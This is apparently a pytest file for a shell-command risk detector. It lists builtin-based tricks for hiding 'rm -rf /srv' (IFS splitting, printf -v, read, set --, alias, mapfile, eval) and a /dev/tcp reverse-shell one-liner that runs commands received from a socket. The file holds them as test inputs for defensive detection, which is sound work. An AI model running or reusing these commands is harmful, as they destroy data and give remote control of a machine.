"""Builtins that give names."""

from __future__ import annotations

import pytest

from tests.unit.detect.reading import DOWNLOAD, RECURSIVE, categories


@pytest.mark.parametrize(
    "text",
    [
        "IFS=,; c=rm,-rf,/srv; $c",
        "printf -v c 'rm -rf /srv'; $c",
        "printf -v c '%s' 'rm -rf /srv'; eval \"$c\"",
        "read -r c <<< 'rm -rf /srv'; $c",
        'read a b c <<< "rm -rf /srv"; $a $b $c',
        'set -- rm -rf /srv; "$@"',
        "set -- rm -rf /srv; $1 $2 $3",
        "set -- rm -rf /srv; $*",
        "alias x='rm -rf /srv'; x",
        "shopt -s expand_aliases; alias x=rm; x -rf /srv",
        "while read c; do $c; done <<< 'rm -rf /srv'",
        "while read -r c; do eval \"$c\"; done < <(echo 'rm -rf /srv')",
        "mapfile -t a <<< 'rm -rf /srv'; ${a[0]}",
    ],
)
def test_what_a_builtin_names_is_what_runs(text: str) -> None:
    assert RECURSIVE in categories(text)


@pytest.mark.parametrize(
    "text",
    [
        "alias rm='rm -i'",
        "alias gp='git push'",
        "alias ll='ls -la'",
        "alias x='rm -rf /srv' ; echo ok",
        'read -r a b <<< "1 2"; echo $a $b',
        "printf -v x '%s' 'rm -rf /'; echo \"$x\"",
        'set -- a b; echo "$@"',
        'IFS=, read -r a b <<< "1,2"',
        "alias x='rm -rf /srv'",
        "set -euo pipefail",
    ],
)
def test_names_that_are_only_shown_pass(text: str) -> None:
    assert categories(text) == []


def test_a_line_from_a_socket_that_runs_is_a_download() -> None:
    assert DOWNLOAD in categories("exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done")
